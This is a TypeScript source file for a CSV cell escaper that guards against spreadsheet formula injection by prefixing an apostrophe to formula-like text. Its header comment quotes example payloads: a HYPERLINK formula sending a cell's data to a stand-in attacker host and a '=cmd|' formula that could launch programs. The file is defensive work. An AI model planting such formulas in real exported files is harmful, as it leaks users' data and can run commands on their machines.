/**
 * Escapes a cell of a CSV file (RFC 4180, separated by commas).
 *
 * Stops titles that a spreadsheet runs as a formula (sec-O02). `=HYPERLINK("https://evil.example/?"&A1)` sends another
 * cell to an attacker when the user clicks it, and `=cmd|…` could start programs. Quotes do not help, because the
 * spreadsheet removes them first. So a text that starts like a formula gets an apostrophe in front, as OWASP advises.
 *
 * An http or https URL needs no apostrophe, because it starts with `h`. Escape sequences for terminals are kept,
 * because they are harmless in a file. Use `terminalText` before you show the text on a terminal.
 */
import { expectOption } from "./expect-text.ts";

/** Options of `csvCell`. */
export interface CsvCellOptions {
  /**
   * Write the exact text, never with an apostrophe. Use this only if programs read the file, not spreadsheets.
   * @default false
   */
  readonly raw?: boolean | undefined;
}

/** Characters that start a formula. Some spreadsheets also accept their full-width and small variants. */
const FORMULA_SIGN = /^[=+\-@＝＋－＠﹦﹢﹣﹫−]/;
const LINE_OR_TAB = /[\t\r\n]/;
/** Matches a visible character. Spreadsheets skip other characters at the start of a cell. */
const VISIBLE = /[^\s\p{Cc}\p{Cf}\p{Default_Ignorable_Code_Point}]/gu;
const APOSTROPHE = 0x27;

/**
 * Whether the text starts with `=`, `+`, `-`, `@`, a tab or a line break, also after blanks, invisible characters and
 * apostrophes. So a text `'=…` gets a second apostrophe. Otherwise it would look like an escaped `=…`. This is not one
 * regular expression, because it would need a stack as large as the text: 10 MB of blanks would overflow it.
 */
function startsLikeFormula(text: string): boolean {
  const code = text.charCodeAt(0) | 0x20;
  // The fast case: nearly every cell starts with a letter.
  if (code >= 0x61 && code <= 0x7a) return false;
  let start = 0;
  while (text.charCodeAt(start) === APOSTROPHE) start++;
  VISIBLE.lastIndex = start;
  const end = VISIBLE.exec(text)?.index ?? text.length;
  return FORMULA_SIGN.test(text.charAt(end)) || LINE_OR_TAB.test(text.slice(start, end));
}

/** Matches a cell that needs quotes. Includes separators of other CSV dialects, and blanks that some readers strip. */
const QUOTED = /[",\r\n;\t]|^\s|\s$/;

const NO_OPTIONS: CsvCellOptions = {};
/** The options of the last call. The same object is not checked again, because a file has millions of cells. */
let checkedOptions: CsvCellOptions = NO_OPTIONS;

/**
 * Returns the cell, with quotes if needed. Returns an empty string for null and undefined. Numbers get no apostrophe.
 * To read a cell back, remove one apostrophe from a text such as `'=…`.
 *
 * @example
 * csvCell("=1+1"); // "'=1+1"
 * csvCell('He said "a, b"'); // '"He said ""a, b"""'
 */
export function csvCell(
  value: string | number | bigint | boolean | null | undefined,
  options: CsvCellOptions = NO_OPTIONS,
): string {
  if (options !== checkedOptions) {
    expectOption("csvCell", options, "raw", "boolean");
    checkedOptions = options;
  }
  if (value === null || value === undefined) return "";
  if (typeof value === "object" || typeof value === "function" || typeof value === "symbol") {
    throw new TypeError(
      "csvCell: value must be a string, a number or a boolean. Write objects with jsonLine",
    );
  }
  if (typeof value !== "string") return String(value);
  const text = !options.raw && startsLikeFormula(value) ? `'${value}` : value;
  return QUOTED.test(text) ? `"${text.replaceAll('"', '""')}"` : text;
}
